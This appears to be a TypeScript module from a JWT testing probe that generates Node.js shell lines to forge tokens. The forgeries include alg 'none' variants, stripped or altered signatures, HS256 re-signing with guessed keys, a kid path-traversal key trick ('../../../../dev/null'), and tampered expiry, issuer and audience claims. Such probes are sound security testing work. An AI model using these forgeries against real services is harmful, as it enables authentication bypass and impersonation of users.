/**
 * A shell line that makes `$FORGED` of a rightful token with Node.js, as one check of the jwt probe does; a comment where
 * the forgery does not fit into a line.
 *
 * @param check   the probe's name for the forgery, such as `alg-none`
 * @param holder  name of the variable with the rightful token
 */
export function forgeryLine(check: string, holder: string): string {
  const unsigned = unsignedForgeries[check];
  if (unsigned !== undefined) return line(unsigned, holder);
  const claims = claimForgeries[check];
  if (claims !== undefined) return `# for HS256; $KEY is the signing key\n${line(`${claims};${resigned}`, holder)}`;
  return `# FORGED: the token of the check ${check.replaceAll(/[^\w-]/g, "")}, made of $${holder}`;
}

function line(script: string, holder: string): string {
  return `FORGED=$(node -e '${before}${script}' "$${holder}")`;
}

// `p` are the parts, `h` the header, `c` the claims, `e` encodes a part, `say` prints.
const before =
  'const p=process.argv[1].split("."),d=x=>JSON.parse(Buffer.from(x,"base64url")),' +
  'e=x=>Buffer.from(JSON.stringify(x)).toString("base64url"),h=d(p[0]),c=d(p[1]),' +
  'now=Math.floor(Date.now()/1000),say=(...x)=>console.log(x.join("."));';

const resigned =
  'const s=e(h)+"."+e(c);say(s,require("crypto").createHmac("sha256",process.env.KEY).update(s).digest("base64url"))';

const none = (alg: string): string => `h.alg="${alg}";say(e(h),p[1],"")`;

const unsignedForgeries: Readonly<Record<string, string>> = {
  "alg-none": none("none"),
  "alg-None": none("None"),
  "alg-NONE": none("NONE"),
  "alg-nOnE": none("nOnE"),
  "alg-empty": none(""),
  "alg-none-signed": 'h.alg="none";say(e(h),p[1],p[2])',
  "no-signature": 'say(p[0],p[1],"")',
  "no-third-part": "say(p[0],p[1])",
  "zero-signature": 'say(p[0],p[1],"A".repeat(p[2].length))',
  "flipped-signature": 'say(p[0],p[1],(p[2][0]==="A"?"B":"A")+p[2].slice(1))',
  tampered: 'say(p[0],p[1],(p[2][0]==="A"?"B":"A")+p[2].slice(1))',
  "claims-changed": 'c.pc="changed";say(p[0],e(c),p[2])',
  "own-signature":
    'h.alg="HS256";const s=e(h)+"."+p[1];say(s,require("crypto").createHmac("sha256","mine").update(s).digest("base64url"))',
  "kid-path":
    'h.alg="HS256";h.kid="../../../../dev/null";const s=e(h)+"."+p[1];say(s,require("crypto").createHmac("sha256","\\0").update(s).digest("base64url"))',
};

const claimForgeries: Readonly<Record<string, string>> = {
  "weak-secret": 'c.pc="forged"',
  expired: "c.exp=now-3600;c.iat=now-3700",
  "not-yet-valid": "c.nbf=now+3600",
  "no-exp": "delete c.exp",
  "exp-text": "c.exp=String(now+300)",
  "wrong-issuer": 'c.iss="https://issuer.example"',
  "no-issuer": "delete c.iss",
  "wrong-audience": 'c.aud="https://other.example"',
  "no-audience": "delete c.aud",
  "no-subject": "delete c.sub",
  "wrong-type": 'h.typ="logout+jwt"',
  "too-old": "c.iat=now-90000",
  "issued-in-future": "c.iat=now+3600",
};
